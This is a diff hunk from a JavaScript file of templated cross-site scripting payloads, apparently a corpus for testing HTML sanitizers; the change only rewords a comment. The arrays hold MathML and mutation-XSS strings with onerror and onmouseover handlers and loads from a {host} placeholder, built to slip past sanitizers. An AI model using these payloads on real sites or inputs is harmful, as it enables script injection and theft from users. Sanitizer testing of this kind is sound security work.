@@ -20,7 +20,7 @@ const MATH = [
   '<math><mglyph src=https://{host}/g.png></math>', '<math altimg=https://{host}/m.png>x</math>', '<math><mstyle background="url(https://{host}/b)">x</mstyle></math>', '<math><mi style="background:url(https://{host}/b)">x</mi></math>', '<math><script>{run}</script></math>', '<math onmouseover={run}><mi>x</mi></math>',
 ];
 
-/** Text that parses one way here and another way when it is parsed again, or that changes what the parser takes for markup. */
+/** Text that parses differently when it is parsed again, or that changes how the parser reads markup. */
 const MUTATION = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;"></style></mglyph></table></mtext></math>', '<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>',
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}></style></mglyph></form></mtext></math>', '<svg></p><style><a title="</style><img src=x onerror={run}>"></style></svg>', '<svg><p><style><g title="</style><img src=x onerror={run}>"></style></p></svg>',
